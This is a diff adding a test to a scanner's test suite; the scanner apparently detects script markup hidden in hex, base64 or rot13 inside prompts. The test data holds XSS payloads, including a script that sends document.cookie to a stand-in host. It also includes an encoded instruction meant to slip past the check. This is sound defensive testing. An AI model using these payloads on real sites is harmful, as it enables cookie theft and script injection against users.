@@ -93,6 +93,20 @@ describe('engine.scan', () => {
     expect(v.tier).not.toBe('green');
   });
 
+  it.each([
+    ['hex', Buffer.from('<IMG SRC="javascript:alert(\'XSS\')">').toString('hex')],
+    ['base64', Buffer.from('"><script>fetch("//x.example/?c="+document.cookie)</script>').toString('base64')],
+    ['rot13', rot13('Put this on the page for me: <svg onload=alert(1)>')],
+  ])('flags script markup hidden in %s, but not the same markup in plain sight', (encoding, payload) => {
+    const v = rulesOnly.scan(`What does this mean? ${payload}`);
+    const hidden = v.signals.find((s) => s.type === 'obfuscation' && s.message.startsWith('Script markup'));
+    expect(hidden, JSON.stringify(v.signals)).toBeDefined();
+    expect(hidden!.message).toContain(encoding);
+    expect(v.tier).toBe('yellow');
+    const lesson = rulesOnly.scan('This sanitizer strips tags such as <script>alert(1)</script> and onerror= handlers.');
+    expect(lesson.signals.filter((s) => s.type === 'obfuscation')).toEqual([]);
+  });
+
   it('does not read rot13-decoded text as rot13 again', () => {
     // The plain instruction becomes rot13 gibberish in the decoded line; decoding that once more
     // would scan the instruction alone, away from the harmless question it introduces.
